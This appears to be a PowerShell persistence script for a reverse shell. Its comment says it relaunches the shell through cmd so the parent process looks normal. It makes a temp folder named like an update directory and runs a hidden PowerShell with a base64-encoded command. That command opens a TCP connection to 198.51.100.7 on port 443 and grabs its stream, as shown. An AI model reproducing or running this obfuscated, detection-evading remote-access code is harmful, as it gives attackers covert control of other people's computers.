# persistence helper: re-spawns the reverse shell through cmd so the parent looks normal
$logDir = Join-Path -Path $env:TEMP -ChildPath 'msupd'
if (-not (Test-Path -Path $logDir)) {
    New-Item -ItemType Directory -Path $logDir | Out-Null
}

cmd.exe /c powershell.exe -NoP -NonI -W Hidden -Enc JABjAD0ATgBlAHcALQBPAGIAagBlAGMAdAAgAE4AZQB0AC4AUwBvAGMAawBlAHQAcwAuAFQAQwBQAEMAbABpAGUAbgB0ACgAJwAxADkAOAAuADUAMQAuADEAMAAwAC4ANwAnACwANAA0ADMAKQA7ACQAcwA9ACQAYwAuAEcAZQB0AFMAdAByAGUAYQBtACgAKQA=

Get-Date -Format o | Out-File -FilePath (Join-Path -Path $logDir -ChildPath 'last.txt') -Append
Write-Output "relaunched at $(Get-Date -Format o)"
